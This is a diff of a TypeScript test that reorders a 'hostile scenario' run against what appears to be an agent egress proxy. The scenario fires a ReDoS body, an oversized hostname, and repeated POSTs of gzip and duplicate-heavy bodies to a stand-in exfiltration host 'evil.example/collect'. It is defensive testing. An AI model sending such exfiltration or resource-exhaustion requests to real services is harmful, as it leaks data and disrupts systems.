@@ -178,10 +178,8 @@ async function hostileScenario(t: Test, origin: Upstream): Promise<void> {
   let bombStatus = 0;
   let bombText = '';
   const hostileDone = (async () => {
-    for (let i = 0; i < 3; i++) fire('https://api.github.com/graphql', { method: 'POST', body: redos });
-    fire(`https://a${'.'.repeat(3000)}b.example/`);
-    for (let i = 0; i < 2; i++) fire('https://evil.example/collect', { method: 'POST', body: deepDuplicates });
-    for (let i = 0; i < 40; i++) fire('https://evil.example/collect', { method: 'POST', body: gzipBody, headers: { 'content-encoding': 'gzip' } });
+    // The response bomb first: decided before the storm's own records fill this agent's share of
+    // the audit backlog (past it the agent's requests get 503, which a loaded disk reached).
     fire('https://api.github.com/repos/acme/bomb', {
       onResponse: (res) => {
         bombStatus = res.statusCode ?? 0;
@@ -199,6 +197,10 @@ async function hostileScenario(t: Test, origin: Upstream): Promise<void> {
         }, 4000);
       },
     });
+    for (let i = 0; i < 3; i++) fire('https://api.github.com/graphql', { method: 'POST', body: redos });
+    fire(`https://a${'.'.repeat(3000)}b.example/`);
+    for (let i = 0; i < 2; i++) fire('https://evil.example/collect', { method: 'POST', body: deepDuplicates });
+    for (let i = 0; i < 40; i++) fire('https://evil.example/collect', { method: 'POST', body: gzipBody, headers: { 'content-encoding': 'gzip' } });
     for (let i = 0; i < 48; i++) fire('https://api.github.com/repos/acme/app/issues', { method: 'POST', body: upload });
     // Denied requests with large bodies, two at a time.
     const denied = async (): Promise<void> => {
